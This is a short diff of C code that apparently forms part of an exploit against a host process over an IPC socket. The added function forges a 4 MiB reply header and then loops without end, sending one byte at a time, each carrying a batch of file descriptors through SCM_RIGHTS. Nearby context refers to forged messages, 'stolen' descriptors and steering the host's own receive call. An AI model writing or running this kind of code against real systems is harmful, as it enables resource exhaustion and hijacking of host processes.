@@ -18,6 +18,21 @@ static void forge(uint64_t length, size_t count) {
   send(CHANNEL, bytes, count, MSG_NOSIGNAL);
 }
 
+// Begins a reply of 4 MiB, and sends it byte by byte, each with the greatest number of descriptors that the host could take.
+static void send_descriptors(void) {
+  forge(4 << 20, sizeof(struct forged));
+  for (;;) {
+    char byte = 0;
+    struct iovec part = {&byte, 1};
+    union { struct cmsghdr header; char space[CMSG_SPACE(4 * sizeof(int))]; } control;
+    memset(&control, 0, sizeof control);
+    struct msghdr message = {.msg_iov = &part, .msg_iovlen = 1, .msg_control = control.space, .msg_controllen = sizeof control.space};
+    control.header = (struct cmsghdr){.cmsg_len = CMSG_LEN(4 * sizeof(int)), .cmsg_level = SOL_SOCKET, .cmsg_type = SCM_RIGHTS};
+    memset(CMSG_DATA(&control.header), 0, 4 * sizeof(int));
+    sendmsg(CHANNEL, &message, MSG_NOSIGNAL);
+  }
+}
+
 // Takes the descriptors of frames as they come: the host's own call to receive them is led here.
 static volatile int stolen;
 static volatile char *volatile opened;
